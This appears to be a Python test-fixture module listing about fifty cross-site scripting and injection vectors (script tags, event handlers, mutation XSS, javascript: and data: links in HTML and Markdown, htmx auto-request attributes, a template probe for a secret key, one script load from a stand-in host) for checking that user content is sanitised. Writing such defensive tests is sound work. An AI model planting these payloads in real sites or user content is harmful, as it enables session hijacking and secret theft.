"""Known script-injection vectors, used as titles, bodies, comments, tags and status messages.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, mutation-XSS
papers (bleach/html5lib parser differentials), Markdown-specific link tricks, and htmx attributes
(which would let content trigger requests with the reader's session).
"""

from __future__ import annotations

VECTORS: tuple[str, ...] = (
    # Plain tags and attributes
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<video><source onerror="alert(1)">',
    "<x onclick=alert(1)>click me",
    '<img src="/media/x.png" onerror="alert(1)">',
    # Breaking out of an attribute or a tag
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Tag soup and mutation XSS
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    # javascript:, vbscript: and data: URLs, in HTML and in Markdown
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](javascript:alert(1))",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![pic](/media/a.png "t\\" onerror=\\"alert(1)")',
    '[click](https://example.com" onclick="alert(1))',
    '[click][r]\n\n[r]: javascript:alert(1) "title"',
    # Autolinks and linkify
    "<javascript:alert(1)>",
    'https://example.com/"onmouseover="alert(1)',
    'www.example.com/?q="><script>alert(1)</script>',
    # CSS, meta, base
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # Code spans and blocks must stay text
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    # htmx: attributes that would make the page send requests with the reader's session
    '<div hx-get="/api/v1/me" hx-trigger="load">htmx</div>',
    '<a data-hx-post="/ideas/1/follow" hx-trigger="load">htmx</a>',
    # Template and header injection (must come out as text)
    "{{ 7*7 }} {% raw %}{{ settings.secret_key }}{% endraw %}",
)

assert len(VECTORS) >= 30
